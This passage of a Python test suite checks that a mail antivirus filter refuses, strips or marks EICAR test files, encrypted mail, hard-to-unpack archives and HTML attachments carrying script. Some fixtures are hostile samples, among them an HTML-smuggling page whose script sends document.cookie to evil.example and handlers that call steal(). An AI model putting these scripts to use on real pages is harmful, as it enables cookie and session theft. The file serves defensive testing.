        r = self.send(harness.make_message(body=EICAR.decode() + "\r\n"))
        self.assertRefused(r, "Virus found: " + SIGNAME)

    # -- marks -------------------------------------------------------------
    def test_encrypted_zip_is_delivered_and_marked(self):
        msgid = self.msgid("enc")
        r = self.send(with_attachment(zip_of("eicar.com", EICAR, password="secret"), "enc.zip", "application/zip",
                                      msgid=msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, _ = self.delivered(msgid)
        self.assertIn(b"X-Virus-Status: unscanned: encrypted", got)

    def test_encrypted_mail_is_delivered_and_marked_also_as_a_part(self):
        # PGP/MIME and S/MIME hide what they carry from any scanner, at the
        # top or further down: a mailing list wraps PGP/MIME in
        # multipart/mixed to add its footer, a forwarded message, an
        # attached smime.p7m. Before, only the top-level type was looked at.
        pgp = ("--P\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
               "--P\r\nContent-Type: application/octet-stream\r\n\r\n"
               "-----BEGIN PGP MESSAGE-----\r\nhQEMA0xyz\r\n-----END PGP MESSAGE-----\r\n--P--\r\n")
        pgp_part = "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"P\"\r\n\r\n"
        footer = "--L\r\nContent-Type: text/plain\r\n\r\nlist footer\r\n--L--\r\n"
        mixed = ["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"L\""]
        # Inline PGP: the armored message in the text itself, as it came or
        # quoted-printable in a part; also attached as a .asc file.
        armor = "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA0xyz\r\n=abcd\r\n-----END PGP MESSAGE-----\r\n"
        def b64bytes(data):
            return base64.encodebytes(data).decode().replace("\n", "\r\n")
        def b64(text):
            return b64bytes(text.encode())
        encrypted, clean = b"unscanned: encrypted", b"clean"
        gpg = gpg_outputs(JA_TEXT.encode())
        def attached(name, data):
            return ("--L\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--L\r\nContent-Type: "
                    "application/octet-stream; name=%s\r\nContent-Disposition: attachment; filename=%s\r\n"
                    "Content-Transfer-Encoding: base64\r\n\r\n%s" % (name, name, b64bytes(data)) + footer)
        cases = {
            "PGP/MIME": (["MIME-Version: 1.0", pgp_part.split("\r\n")[0]], pgp, encrypted),
            "PGP/MIME inside a list's multipart/mixed": (mixed, "--L\r\n" + pgp_part + pgp + footer, encrypted),
            "S/MIME attached, the type folded": (
                mixed, "--L\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                       "--L\r\nContent-Type: Application/\r\n PKCS7-MIME; smime-type=enveloped-data; name=smime.p7m\r\n"
                       "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQA=\r\n" + footer, encrypted),
            "a forwarded encrypted message": (
                mixed, "--L\r\nContent-Type: message/rfc822\r\n\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n" +
                       pgp_part + pgp + footer, encrypted),
            # Past the MIME walk's limits (1 MiB of part header fields
            # first): not looked at, so counted as there (and so is an
            # HTML attachment with a script: any part may be one).
            "PGP/MIME past the walk's limits": (
                mixed, "".join("--L\r\nContent-Type: text/plain\r\nX-Pad: %s\r\n\r\n%d\r\n" % ("y" * 1100, i)
                               for i in range(1000)) + "--L\r\n" + pgp_part + pgp + footer,
                encrypted + b"; suspicious: Heuristics.HTML.Script"),
            "inline PGP": ([], "Hello,\r\n\r\n" + armor, encrypted),
            "inline PGP, quoted-printable in a part": (
                mixed, "--L\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
                       "quoted-printable\r\n\r\nHello=\r\n,\r\n" + armor + footer, encrypted),
            "an attached .asc": (
                mixed, "--L\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--L\r\nContent-Type: "
                       "application/octet-stream; name=msg.asc\r\nContent-Disposition: attachment; "
                       "filename=msg.asc\r\n\r\n" + armor + footer, encrypted),
            # Encoded, as mail programs write a UTF-8 text or an attached
            # file (base64), or with every dash escaped (quoted-printable);
            # a forwarded message base64-encoded as a whole.
            "inline PGP in a base64 UTF-8 text": (
                mixed, "--L\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                       b64("こんにちは\r\n" + armor) + footer, encrypted),
            "an attached .asc in base64": (mixed, attached("msg.asc", armor.encode()), encrypted),
            "inline PGP, quoted-printable, dashes escaped": (
                mixed, "--L\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
                       "Hello\r\n" + armor.replace("-", "=2D") + footer, encrypted),
            "a forwarded encrypted message in base64": (
                mixed, "--L\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                       b64("Subject: fwd\r\nMIME-Version: 1.0\r\n" + pgp_part + pgp) + footer, encrypted),
            # Binary OpenPGP files as gpg writes them, attached in base64
            # (mail programs' "inline PGP" mode sends attachments so).
            "a .gpg file (gpg --symmetric)": (mixed, attached("notes.txt.gpg", gpg["symmetric"]), encrypted),
            "a .pgp file (gpg --encrypt, RSA and Curve25519 keys)": (
                mixed, attached("notes.txt.pgp", gpg["public"]), encrypted),
            # Signed only: compressed, which libclamav does not unpack; the
            # worker does, and the text inside is clean (EICAR inside:
            # test_a_container_the_engine_cannot_unpack_is_unpacked_by_the_worker).
            "a signed .gpg file (gpg --sign)": (mixed, attached("notes.txt.gpg", gpg["signed"]), clean),
            # Only talked about, or clear-signed: readable, scanned, clean.
            "mentioned": ([], "the line -----BEGIN PGP MESSAGE----- opens one\r\n", clean),
            "clear-signed": ([], "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nhi\r\n"
                                 "-----BEGIN PGP SIGNATURE-----\r\n\r\nx\r\n-----END PGP SIGNATURE-----\r\n", clean),
            # Signed only: the content is there to scan, and it is clean.
            "PGP/MIME signed": (mixed, (
                "--L\r\nContent-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"S\"\r\n\r\n"
                "--S\r\nContent-Type: text/plain\r\n\r\nsigned text\r\n"
                "--S\r\nContent-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n"
                "-----END PGP SIGNATURE-----\r\n--S--\r\n" + footer), clean),
        }
        for label, (headers, body, status) in cases.items():
            with self.subTest(label):
                msgid = self.msgid("pgp")
                r = self.send(harness.make_message(msgid=msgid, headers=headers, body=body))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                got, _ = self.delivered(msgid)
                self.assertIn(b"X-Virus-Status: " + status + b"\n", got)

    def test_a_message_attached_in_base64_or_quoted_printable_is_scanned_inside(self):
        # RFC 2046 forbids encoding a message/rfc822 part, but GMime (and the
        # mail programs built on it) decode one. libclamav does not when it
        # is the whole message: EICAR attached inside was delivered as clean.
        def qp(data):
            return quopri.encodestring(data).replace(b"-", b"=2D").replace(b"\n", b"\r\n")
        def wrapped(inner, cte, encode, ctype="message/rfc822", msgid=None):
            return harness.make_message(msgid=msgid, headers=["MIME-Version: 1.0", "Content-Type: " + ctype,
                                                              "Content-Transfer-Encoding: " + cte],
                                        body=encode(inner))
        b64 = lambda data: base64.encodebytes(data).replace(b"\n", b"\r\n")
        infected = with_attachment(EICAR, "eicar.com")
        for label, raw, kw in [
                ("inbound, base64", wrapped(infected, "base64", b64), {}),
                ("inbound, quoted-printable", wrapped(infected, "quoted-printable", qp), {}),
                ("inbound, message/global", wrapped(infected, "base64", b64, "message/global"), {}),
                ("inbound, encoded twice", wrapped(wrapped(infected, "base64", b64), "base64", b64), {}),
                ("outbound, base64", wrapped(with_attachment(EICAR, "eicar.com", frm="alice@example.net"), "base64",
                                             b64),
                 {"frm": "alice@example.net", "to": "bob@remote.example", "xclient": "ADDR=10.1.2.3"})]:
            with self.subTest(label):
                r = self.send(raw, **kw)
                # Nothing inside an encoded message can be cut out alone:
                # the whole message is refused, inbound too.
                self.assertRefused(r, "Virus found: " + SIGNAME)
        # What cannot be scanned inside one is marked; a clean one is clean.
        for label, inner, status in [
                ("an encrypted zip", with_attachment(zip_of("eicar.com", EICAR, password="secret"), "enc.zip",
                                                     "application/zip"), b"unscanned: encrypted"),
                ("HTML with a script", harness.make_message(
                    headers=["MIME-Version: 1.0", "Content-Type: text/html"],
                    body="<p>hi</p><script>alert(1)</script>\r\n"), b"clean; suspicious: Heuristics.HTML.Script"),
                ("clean Japanese mail", with_attachment(b"%PDF-1.4 report\n", "report.pdf"), b"clean")]:
            with self.subTest(label):
                msgid = self.msgid("encmsg")
                r = self.send(wrapped(inner, "base64", b64, msgid=msgid))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                got, _ = self.delivered(msgid)
                self.assertIn(b"X-Virus-Status: " + status + b"\n", got)

    def test_an_attached_message_goes_whole_inbound_when_its_infection_cannot_be_cut_out_alone(self):
        # An attachment inside an attached message sent encoded cannot be cut
        # out alone (the attached message would have to be re-encoded), nor
        # can the text of an attached message (sent encoded or not): inbound,
        # the attached message goes, a notice naming it (and the file) in its
        # place, the rest kept.
        def b64(data):
            return base64.encodebytes(data).decode().replace("\n", "\r\n")
        def qp(data):
            return quopri.encodestring(data).replace(b"-", b"=2D").replace(b"\n", b"\r\n").decode()
        def attached(inner, name, cte="base64"):
            return ("--M\r\nContent-Type: message/rfc822; name=\"%s\"\r\nContent-Transfer-Encoding: %s\r\n"
                    "Content-Disposition: attachment; filename=\"%s\"\r\n\r\n%s"
                    % (name, cte, name, b64(inner) if cte == "base64" else qp(inner)))
        text = "--M\r\nContent-Type: text/plain; charset=UTF-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n転送します\r\n"
        infected = with_attachment(EICAR, "eicar.com")
        encrypted = with_attachment(zip_of("notes.txt", b"nothing to see\n", password="secret"), "enc.zip",
                                    "application/zip")
        def message(parts, msgid=None, frm="sender@example.org", to="user@example.net"):
            return harness.make_message(msgid=msgid, frm=frm, to=to, body=(parts + "--M--\r\n").encode(),
                                        headers=["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"M\""])
        msgid = self.msgid("fwd")
        r = self.send(message(text + attached(infected, "fwd.eml"), msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, msg = self.delivered(msgid)
        self.assertNotIn(b64(infected)[:60].encode(), got)
        self.assertEqual(msg["X-Virus-Status"], "removed: %s.UNOFFICIAL" % SIGNAME)
        self.assertIn("8bit\n\n転送します\n--M\n".encode(), got)  # the text part byte-identical
        notice = [p.get_payload(decode=True).decode("utf-8") for p in msg.walk()
                  if p.get_content_type() == "text/plain" and b"fwd.eml" in (p.get_payload(decode=True) or b"")]
        self.assertEqual(len(notice), 1, got[-2000:])
        self.assertIn('"fwd.eml" (an attached message) held "eicar.com", which contained a virus (%s.UNOFFICIAL), and'
                      % SIGNAME, notice[0])
        self.assertIn("「eicar.com」からウイルス（%s.UNOFFICIAL）が検出された" % SIGNAME, notice[0])
        self.wait_warning_to("user@example.net", about="fwd.eml (eicar.com)")
        # Two infected attachments in it: each named in its own quotes.
        two = harness.make_message(
            headers=["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"T\""],
            body="".join("--T\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; "
                         "filename=\"%s\"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s" % (name, b64(EICAR))
                         for name in ("eicar.com", "b.com")) + "--T--\r\n")
        msgid = self.msgid("fwd-two")
        r = self.send(message(text + attached(two, "fwd.eml"), msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, msg = self.delivered(msgid)
        notice = msg.get_payload()[1].get_payload(decode=True).decode("utf-8")
        self.assertIn('"fwd.eml" (an attached message) held "eicar.com", "b.com", which contained a virus', notice)
        self.assertIn("（添付されたメール）の中の「eicar.com」「b.com」からウイルス", notice)
        self.wait_warning_to("user@example.net", about="fwd.eml (eicar.com, b.com)")
        # The same sent quoted-printable.
        msgid = self.msgid("fwd-qp")
        r = self.send(message(text + attached(infected, "fwd.eml", "quoted-printable"), msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, msg = self.delivered(msgid)
        self.assertEqual(msg["X-Virus-Status"], "removed: %s.UNOFFICIAL" % SIGNAME)
        self.assertNotIn(base64.encodebytes(EICAR)[:40], got)
        # Beside it, an encrypted zip in another attached message stays and is marked.
        msgid = self.msgid("fwd2")
        r = self.send(message(text + attached(infected, "fwd.eml") + attached(encrypted, "enc.eml"), msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, msg = self.delivered(msgid)
        self.assertEqual(msg["X-Virus-Status"], "removed: %s.UNOFFICIAL; unscanned: encrypted" % SIGNAME)
        self.assertIn(b64(encrypted)[:60].encode(), got)
        # The virus in the attached message's own text, not an attachment
        # there (it was refused whole before), sent encoded and sent as it
        # is; in the second, an infected attachment of its own too, and an
        # attached message beside it that stays.
        body_infected = harness.make_message(body=EICAR.decode() + "\r\n", msgid="<inner@example.org>")
        plain = ("--M\r\nContent-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"fwd.eml\"\r\n"
                 "\r\n")
        inner_multi = ("MIME-Version: 1.0\r\nSubject: fwd\r\nContent-Type: multipart/mixed; boundary=\"I\"\r\n\r\n"
                       "--I\r\nContent-Type: text/plain\r\n\r\n" + EICAR.decode() + "\r\n" +
                       "--I\r\nContent-Type: application/octet-stream; name=\"eicar.com\"\r\n"
                       "Content-Transfer-Encoding: base64\r\n\r\n" + b64(EICAR) + "--I--\r\n")
        clean_fwd = ("--M\r\nContent-Type: message/rfc822\r\n\r\nSubject: kept\r\nContent-Type: text/plain\r\n\r\n"
                     "this forwarded message stays\r\n")
        attachment_body = ("MIME-Version: 1.0\r\nSubject: fwd\r\nContent-Type: application/octet-stream\r\n"
                           "Content-Disposition: attachment; filename=\"eicar.com\"\r\n"
                           "Content-Transfer-Encoding: base64\r\n\r\n" + b64(EICAR))
        for label, parts, inside in [
                ("base64", text + attached(body_infected, "fwd.eml"), None),
                ("as it is", text + plain + body_infected.decode(), None),
                ("as it is, an attachment as its body", text + plain + attachment_body, "eicar.com"),
                ("as it is, with an attachment", text + plain + inner_multi + clean_fwd, "eicar.com")]:
            with self.subTest(label):
                msgid = self.msgid("fwd-text")
                r = self.send(message(parts, msgid))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                got, msg = self.delivered(msgid)
                self.assertEqual(msg["X-Virus-Status"], "removed: %s.UNOFFICIAL" % SIGNAME)
                self.assertNotIn(EICAR, got)
                self.assertNotIn(b64(EICAR)[:40].encode(), got)
                self.assertIn("8bit\n\n転送します\n--M\n".encode(), got)
                kinds = [p.get_content_type() for p in msg.walk()]
                notice = msg.get_payload()[1].get_payload(decode=True).decode("utf-8")
                if inside is None:
                    self.assertIn('The attachment "fwd.eml" (an attached message) contained a virus (%s.UNOFFICIAL) '
                                  "and was removed" % SIGNAME, notice)
                    self.assertIn("添付ファイル「fwd.eml」（添付されたメール）からウイルス", notice)
                elif label.endswith("its body"):
                    self.assertIn('"fwd.eml" (an attached message) held "%s", which contained' % inside, notice)
                else:  # its text and its attachment
                    self.assertIn('"fwd.eml" (an attached message) contained a virus (%s.UNOFFICIAL) in its text and '
                                  'in "%s" and was removed' % (SIGNAME, inside), notice)
                    self.assertIn("（添付されたメール）の本文と「%s」からウイルス" % inside, notice)
                if clean_fwd in parts:
                    self.assertEqual(kinds, ["multipart/mixed", "text/plain", "text/plain", "message/rfc822",
                                             "text/plain"])
                    self.assertIn(b"\n\nthis forwarded message stays\n--M--\n", got)
                else:
                    self.assertEqual(kinds, ["multipart/mixed", "text/plain", "text/plain"])
        # A digest (a mailing list's): its entries are attached messages
        # without header fields of their own, so without a filename; the
        # infected one goes, named by its Subject (ISO-2022-JP, "会議"), or
        # "(no name)" when it has none.
        for subject, shown, shown_ja in [("=?ISO-2022-JP?B?GyRCMnE1RBsoQg==?=",
                                          'The attached message with the subject "会議"',
                                          "件名「会議」の添付されたメールからウイルス"),
                                         (None, 'The attachment "(no name)" (an attached message)',
                                          "添付ファイル「(no name)」（添付されたメール）からウイルス"),
                                         # A sender's line breaks kept out of the notice; 200 bytes at most.
                                         ("=?UTF-8?B?%s?=" % base64.b64encode(("a\r\nb" + "会" * 100).encode()).decode(),
                                          'The attached message with the subject "a\\x0d\\x0ab%s..."' % ("会" * 63),
                                          "件名「a\\x0d\\x0ab%s...」の添付されたメール" % ("会" * 63))]:
            with self.subTest("digest", subject=subject):
                entry = (harness.make_message(body=EICAR.decode() + "\r\n", subject=subject) if subject else
                         b"From: <a@example.org>\r\n\r\n" + EICAR + b"\r\n")
                msgid = self.msgid("digest")
                r = self.send(harness.make_message(
                    msgid=msgid, headers=["MIME-Version: 1.0", "Content-Type: multipart/digest; boundary=\"D\""],
                    body="--D\r\n\r\n" + entry.decode() +
                         "--D\r\n\r\nSubject: second\r\n\r\nthe second entry stays\r\n--D--\r\n"))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                got, msg = self.delivered(msgid)
                self.assertEqual(msg["X-Virus-Status"], "removed: %s.UNOFFICIAL" % SIGNAME)
                self.assertNotIn(EICAR, got)
                self.assertIn(b"--D\n\nSubject: second\n\nthe second entry stays\n--D--\n", got)
                notice = msg.get_payload()[0].get_payload(decode=True).decode("utf-8")
                self.assertIn(shown + " contained a virus (%s.UNOFFICIAL) and was removed" % SIGNAME, notice)
                self.assertIn(shown_ja, notice)
        self.wait_warning_to("user@example.net", about="(no name, subject: 会議)")
        # Refused: outbound; and the virus in the text of a message that is
        # itself an attached message (nothing around it to keep).
        r = self.send(message(text + attached(infected, "fwd.eml"), frm="alice@example.net", to="bob@remote.example"),
                      frm="alice@example.net", to="bob@remote.example", xclient="ADDR=10.1.2.3")
        self.assertRefused(r, "Virus found: " + SIGNAME)
        r = self.send(message(text + plain + body_infected.decode(), frm="alice@example.net", to="bob@remote.example"),
                      frm="alice@example.net", to="bob@remote.example", xclient="ADDR=10.1.2.3")
        self.assertRefused(r, "Virus found: " + SIGNAME)
        r = self.send(harness.make_message(headers=["MIME-Version: 1.0", "Content-Type: message/rfc822"],
                                           body=body_infected))
        self.assertRefused(r, "Virus found: " + SIGNAME)

    def test_what_cannot_be_scanned_beside_a_removed_virus_is_still_marked(self):
        # Found in review: with EICAR attached beside it, an encrypted zip or
        # a PGP/MIME part was delivered as "removed: ..." with no mark (and
        # under encrypted_action = reject not refused: unit AvDecide).
        def b64(data):
            return base64.encodebytes(data).decode().replace("\n", "\r\n")
        eicar = ("--M\r\nContent-Type: application/octet-stream; name=\"eicar.com\"\r\n"
                 "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"eicar.com\"\r\n\r\n" +
                 b64(EICAR))
        encrypted_zip = ("--M\r\nContent-Type: application/zip; name=\"enc.zip\"\r\nContent-Transfer-Encoding: base64\r\n"
                         "Content-Disposition: attachment; filename=\"enc.zip\"\r\n\r\n" +
                         b64(zip_of("notes.txt", b"nothing to see\n", password="secret")))
        pgp = ("--M\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"P\"\r\n\r\n"
               "--P\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
               "--P\r\nContent-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nhQEMA\r\n"
               "-----END PGP MESSAGE-----\r\n--P--\r\n")
        text = "--M\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
        for label, parts in {"an encrypted zip": text + eicar + encrypted_zip, "PGP/MIME": text + pgp + eicar}.items():
            with self.subTest(label):
                msgid = self.msgid("left")
                r = self.send(harness.make_message(
                    msgid=msgid, headers=["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"M\""],
                    body=parts + "--M--\r\n"))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                got, _ = self.delivered(msgid)
                self.assertNotIn(base64.encodebytes(EICAR)[:40], got)
                status = [l for l in got.split(b"\n") if l.startswith(b"X-Virus-Status:")]
                self.assertEqual(len(status), 1, got[:2000])
                self.assertTrue(status[0].startswith(b"X-Virus-Status: removed: " + SIGNAME.encode()), status)
                self.assertTrue(status[0].endswith(b"; unscanned: encrypted"), status)

    def test_a_container_the_engine_cannot_unpack_is_unpacked_by_the_worker(self):
        # libclamav does not unpack these, and answered clean with EICAR
        # inside (they were "unscanned" here before): the worker unpacks
        # them with libarchive (a signed .gpg file: its own OpenPGP reader)
        # and scans what they hold. Inbound, the attachment is removed as
        # any infected one.
        if shutil.which("zstd") is None or shutil.which("7z") is None:
            self.skipTest("zstd or 7z not installed")
        payload = EICAR + b"\n" + b"padding line so that zstd compresses this file\n" * 200
        packed = subprocess.run(["zstd", "-q", "-19", "-c"], input=payload, capture_output=True, check=True).stdout
        # A zip member compressed with LZMA (Python's zipfile, 7-Zip on
        # request): libclamav's unzip skips it, 7-Zip and WinRAR extract it.
        lzma_zip = io.BytesIO()
        with zipfile.ZipFile(lzma_zip, "w", compression=zipfile.ZIP_LZMA) as z:
            z.writestr("report.txt", payload)
        d = tempfile.mkdtemp()
        try:
            with open(os.path.join(d, "report.txt"), "wb") as f:
                f.write(payload)
            # 7-Zip compressed with BZip2, which libclamav does not decode;
            # behind the ARM64 filter, which this libarchive does not either.
            subprocess.run(["7z", "a", "-t7z", "-m0=BZip2", "r.7z", "report.txt"], cwd=d, check=True,
                           capture_output=True)
            subprocess.run(["7z", "a", "-t7z", "-mf=ARM64", "arm64.7z", "report.txt"], cwd=d, check=True,
                           capture_output=True)
            with open(os.path.join(d, "r.7z"), "rb") as f:
                bzip2_7z = f.read()
            with open(os.path.join(d, "arm64.7z"), "rb") as f:
                arm64_7z = f.read()
        finally:
            shutil.rmtree(d)
        for name, data, ctype in [
                ("report.txt.zst", packed, "application/zstd"),
                ("report.zip", lzma_zip.getvalue(), "application/zip"),
                ("report.7z", bzip2_7z, "application/x-7z-compressed"),
                ("report.rar", rar4_stored([(b"report.txt.zst", packed)]), "application/vnd.rar"),
                ("report.txt.gpg", gpg_outputs(payload, ("signed",))["signed"], "application/octet-stream")]:
            with self.subTest(name):
                self.assertNotIn(EICAR, data)
                msgid = self.msgid("unpacked")
                r = self.send(with_attachment(data, name, ctype, msgid=msgid))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                got, _ = self.delivered(msgid)
                self.assertIn(b"X-Virus-Status: removed: " + SIGNAME.encode(), got)
                self.assertNotIn(base64.b64encode(data[:48]), got)
        # Outbound, the message is refused with the name.
        r = self.send(with_attachment(lzma_zip.getvalue(), "report.zip", "application/zip", frm="alice@example.net",
                                      to="bob@remote.example"),
                      frm="alice@example.net", to="bob@remote.example", xclient="ADDR=10.1.2.3")
        self.assertRefused(r, "Virus found: " + SIGNAME)
        # An encrypted RAR cannot be scanned: marked so.
        msgid = self.msgid("encrypted-rar")
        encrypted = rar4_stored([(b"report.txt", b"quarterly figures\n" * 50)], encrypted=True)
        r = self.send(with_attachment(encrypted, "report.rar", "application/vnd.rar", msgid=msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, _ = self.delivered(msgid)
        self.assertIn(b"X-Virus-Status: unscanned: encrypted", got)
        # What neither unpacks is marked, never clean.
        msgid = self.msgid("unscanned")
        r = self.send(with_attachment(arm64_7z, "report.7z", "application/x-7z-compressed", msgid=msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, _ = self.delivered(msgid)
        self.assertIn(b"X-Virus-Status: unscanned: 7-Zip data with an ARM64 filter not unpacked", got)

    def assertDeliveredMarkedHtmlScript(self, headers, body, tag):
        msgid = self.msgid(tag)
        r = self.send(harness.make_message(msgid=msgid, body=body, headers=headers))
        self.assertEqual(r.final, ("250", "2.0.0"))
        got, _ = self.delivered(msgid)
        self.assertIn(b"X-Virus-Status: clean; suspicious: Heuristics.HTML.Script", got)

    def test_html_script_is_marked(self):
        # "text / html": a spelling MIME allows and GMime and mail readers
        # read as text/html; found by fuzz_antivirus, it went unchecked before.
        for html_type in ("text/html", "text / html"):
            with self.subTest(html_type=html_type):
                self.assertDeliveredMarkedHtmlScript(
                    ["MIME-Version: 1.0", "Content-Type: %s; charset=us-ascii" % html_type],
                    "<html><body onload=\"x()\"><script>alert(1)</script></body></html>\r\n", "html")

    def test_html_script_inside_multipart_is_marked(self):
        # Also when the media type is written with white space or a comment
        # around the '/', as MIME allows and mail readers (and GMime) read
        # it: found by fuzz_antivirus, these went unchecked before.
        for html_type in ("TEXT/HTML", "text/ html", "text /(comment) html", "text/\r\n html"):
            with self.subTest(html_type=html_type):
                self.assertDeliveredMarkedHtmlScript(
                    ["MIME-Version: 1.0", "Content-Type: multipart/alternative; boundary=\"A\""],
                    "--A\r\nContent-Type: text/plain\r\n\r\nplain\r\n"
                    "--A\r\nContent-Type: %s; charset=us-ascii\r\n\r\n"
                    "<p>hi</p><img src=x onerror=\"steal()\">\r\n--A--\r\n" % html_type, "html-alt")

    def test_html_attachments_are_checked_whatever_type_they_are_sent_as(self):
        # "HTML smuggling": a page with a script attached as
        # application/octet-stream opens in the browser by its name; an SVG
        # image can hold a script too. Only text/html parts were checked
        # before: these were delivered as clean.
        page = b"<html><body><script>location='https://evil.example/'+document.cookie</script></body></html>\n"
        svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="go()"><circle r="5"/></svg>\n'
        ja_name = "=?UTF-8?B?" + base64.b64encode("請求書.html".encode()).decode() + "?="
        for label, payload, name_params in [
                ("invoice.html", page, 'name="invoice.html"'),
                ("an RFC 2047-encoded Japanese name", page, 'name="%s"' % ja_name),
                ("an RFC 2231-encoded name", page, "name*=UTF-8''invoice%2E%68tml"),
                ("an SVG image", svg, 'name="logo.svg"')]:
            with self.subTest(label):
                ctype = "image/svg+xml" if payload is svg else "application/octet-stream"
                self.assertDeliveredMarkedHtmlScript(
                    ["MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"M\""],
                    "--M\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                    "--M\r\nContent-Type: %s; %s\r\nContent-Transfer-Encoding: base64\r\n\r\n%s"
                    "--M--\r\n" % (ctype, name_params, base64.encodebytes(payload).decode().replace("\n", "\r\n")),
                    "html-att")
        # The same page as a .txt is text, not run.
        msgid = self.msgid("txt-att")
        r = self.send(with_attachment(page, "notes.txt", "text/plain", msgid=msgid))
        self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
        got, _ = self.delivered(msgid)
        self.assertIn(b"X-Virus-Status: clean\n", got)

    def test_html_inside_an_archive_is_checked(self):
        # "HTML smuggling" in a zip: the mail program opens the zip, the
        # user the page, the browser runs it. Delivered as clean before (the
        # MIME walk does not open archives); the scanner workers now check
        # HTML files libclamav or they unpack. The same page as a .txt, and
        # a page without script, stay clean.
        page = b"<html><body><img src=x onerror=\"location='https://evil.example/'\"></body></html>\n"
        def zipped(name, data):
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
                z.writestr(name, data)
            return buf.getvalue()
        for label, data, status in [
                ("invoice.html in a zip", zipped("invoice.html", page), b"clean; suspicious: Heuristics.HTML.Script"),
                ("the page as a .txt", zipped("invoice.txt", page), b"clean"),
                ("a page without script", zipped("notes.html", b"<p>see you</p>\n"), b"clean")]:
            with self.subTest(label):
                msgid = self.msgid("html-zip")
                r = self.send(with_attachment(data, "invoice.zip", "application/zip", msgid=msgid))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
                got, _ = self.delivered(msgid)
                self.assertIn(b"X-Virus-Status: " + status + b"\n", got)
        # reject refuses it. strip cannot cut the script out of the zip: the
        # zip is removed, a notice in its place, the text parts kept as they
        # came; a message that is nothing but the zip is refused.
        try:
            self.milter.write_conf(self.conf(port=self.site.port) + "[actions]\nhtml_script_action = reject\n")
            self.milter.reload()
            r = self.send(with_attachment(zipped("invoice.html", page), "invoice.zip", "application/zip",
                                          msgid=self.msgid("html-zip-reject")))
            self.assertRefused(r, "HTML with active content")
            self.milter.write_conf(self.conf(port=self.site.port) + "[actions]\nhtml_script_action = strip\n")
            self.milter.reload()
            data = zipped("invoice.html", page)
            msgid = self.msgid("html-zip-strip")
            r = self.send(with_attachment(data, "invoice.zip", "application/zip", msgid=msgid))
            self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
            got, msg = self.delivered(msgid)
            self.assertIn(b"X-Virus-Status: clean; stripped: Heuristics.HTML.Script\n", got)
            self.assertNotIn(base64.encodebytes(data)[:40], got)
            self.assertIn(b"charset=ISO-2022-JP\nContent-Transfer-Encoding: 7bit\n\n" +
                          JA_TEXT.encode("iso-2022-jp").replace(b"\r\n", b"\n") + b"--B1\n", got)
            self.assertIn("8bit\n\n添付をご確認ください\n--B1\n".encode(), got)
            notice = [p.get_payload(decode=True).decode("utf-8") for p in msg.walk()
                      if p.get_content_type() == "text/plain" and b"invoice.zip" in (p.get_payload(decode=True) or b"")]
            self.assertEqual(len(notice), 1, got[-2000:])
            self.assertIn("active content", notice[0])
            self.assertIn("スクリプト", notice[0])
            def forwarded(tag, part):
                """A text part and `part` (an attached message, its header
                lines and content) in multipart/mixed: delivered, stripped."""
                msgid = self.msgid(tag)
                body = b"--O1\r\nContent-Type: text/plain\r\n\r\nforwarded\r\n--O1\r\n" + part + b"--O1--\r\n"
                r = self.send(harness.make_message(msgid=msgid, body=body, headers=[
                    "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=\"O1\""]))
                self.assertEqual(r.final, ("250", "2.0.0"), r.transcript[-1500:])
